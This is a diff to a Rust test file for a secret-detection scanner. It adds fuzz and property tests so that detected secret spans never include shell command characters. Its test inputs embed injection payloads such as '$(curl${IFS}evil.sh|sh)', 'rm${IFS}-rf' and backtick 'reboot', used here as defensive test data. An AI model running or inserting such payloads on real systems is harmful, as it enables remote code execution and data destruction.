@@ -78,8 +78,95 @@ fn a_command_in_a_value_is_no_part_of_the_secret() {
         "token=//evil.example/<a1b2c3d4e5f6a7b8c9d0>",
         "rm$IFS/etc;API_KEY=<aaaaaaaa11112222bbbb>;ls",
         "<-----BEGIN PRIVATE KEY----->\nrm -rf /",
+        "password=\"<a1>$(touch${IFS}/tmp/x)\" true",
+        "password=\"<a1>`reboot`\" ./run",
+        "password=\"<a1>$(curl${IFS}evil.sh|sh)\" ./run",
+        "API_KEY=\"<aaaa1111>$(reboot)<bbbb2222>\"",
+        "curl http://u:<a>$(reboot)@h/",
+        "curl http://u:<p>;rm${IFS}-rf${IFS}x;@h",
+        "echo x://a:;reboot;@b",
+        "password=\"<a1b2c3>',role='admin\"",
+        "password=\"<x1> touch /tmp/x; python3 y\"",
+        "password=\";python3 /a;md5 x1\"",
     ] {
         finds(line);
+    }
+}
+
+/// The characters that part or begin commands. A blank may stand between the digits of a number, and anything
+/// within a private key.
+fn is_command_mark(character: char) -> bool {
+    character.is_whitespace() || "`$(){};|&<>'\"\\".contains(character)
+}
+
+#[test]
+fn no_place_holds_a_sign_of_a_command() {
+    const PARTS: [&str; 34] = [
+        "password=",
+        "\"",
+        "'",
+        "`",
+        "$",
+        "(",
+        ")",
+        "{",
+        "}",
+        ";",
+        "|",
+        "&",
+        "<",
+        ">",
+        "\\",
+        " ",
+        "\n",
+        "\t",
+        "\u{A0}",
+        "\u{2028}",
+        "\u{3000}",
+        "\u{200B}",
+        "\u{FF04}",
+        "\u{FF1B}",
+        "\u{85}",
+        "https://ada:",
+        "@b.example/",
+        "hunter2x",
+        "a1b2c3d4e5",
+        "--token ",
+        "reboot",
+        "sk-~ant-api03-Zq01Xw7Lp9Rt3Zq01Xw7Lp9Rt3",
+        "Bearer abcdef0123456789abcdef",
+        "4111 1111 1111 1111",
+    ];
+    let mut next = numbers();
+    let mut found = 0;
+    for _ in 0..60_000 {
+        let count = next(10);
+        let text: String = (0..count).map(|_| written(PARTS[next(PARTS.len())])).collect();
+        let under = spans_under("password", &text).into_iter().map(|range| (None, range));
+        let secrets = spans(&text).into_iter().filter(|span| span.kind.is_secret());
+        let spans = secrets.map(|span| (Some(span.kind), span.range));
+        for (kind, range) in spans.chain(under) {
+            let stretch = text.get(range).unwrap();
+            let shown: Vec<char> = stretch.chars().filter(|c| *c != '\u{200B}').collect();
+            for (at, character) in shown.iter().enumerate() {
+                let digit = |at: usize| shown.get(at).is_some_and(char::is_ascii_digit);
+                let gap = character.is_whitespace() && at > 0 && digit(at - 1) && digit(at + 1);
+                assert!(gap || !is_command_mark(*character), "{text:?}: {stretch:?} {kind:?}");
+            }
+            found += 1;
+        }
+    }
+    assert!(found > 10_000, "{found}");
+}
+
+/// The same made-up numbers in each run, each below a bound.
+fn numbers() -> impl FnMut(usize) -> usize {
+    let mut state = 0x2545_F491_4F6C_DD1D_u64;
+    move |bound| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        usize::try_from(state % 1_000_003).unwrap_or(0) % bound
     }
 }
 
@@ -133,8 +220,8 @@ fn a_key_announces_only_what_looks_like_a_secret() {
     }
 }
 
-/// Of any mixture of texts, what is found is what [`scan`] finds, at characters of the text, and the rest of
-/// the text is put together again.
+/// Of any mixture of texts, nothing is found but what [`scan`] finds, at characters of the text, and the rest
+/// of the text is put together again.
 #[test]
 fn places_and_kinds_agree() {
     const PARTS: [&str; 16] = [
@@ -155,13 +242,7 @@ fn places_and_kinds_agree() {
         "jane.roe@example.com",
         "\u{FF11}",
     ];
-    let mut state = 0x2545_F491_4F6C_DD1D_u64;
-    let mut next = |bound: usize| {
-        state ^= state << 13;
-        state ^= state >> 7;
-        state ^= state << 17;
-        usize::try_from(state % 1_000_003).unwrap_or(0) % bound
-    };
+    let mut next = numbers();
     for _ in 0..20_000 {
         let count = next(9);
         let text: String = (0..count).map(|_| written(PARTS[next(PARTS.len())])).collect();
@@ -174,7 +255,9 @@ fn places_and_kinds_agree() {
             assert!(text.get(span.range.clone()).is_some(), "{text:?} {span:?}");
             last = span.range.start;
         }
-        assert_eq!(kinds, scan(&text), "{text:?}");
+        // A place may be of another kind that it overlaps, but all of them together are none that is not there.
+        assert_eq!(kinds.union(scan(&text)), scan(&text), "{text:?}");
+        assert_eq!(kinds.is_empty(), scan(&text).is_empty(), "{text:?}");
         let ranges: Vec<_> = joined(found.into_iter().map(|span| span.range));
         let back: String = marked(&text, &ranges).replace(['<', '>'], "");
         assert_eq!(back, text);
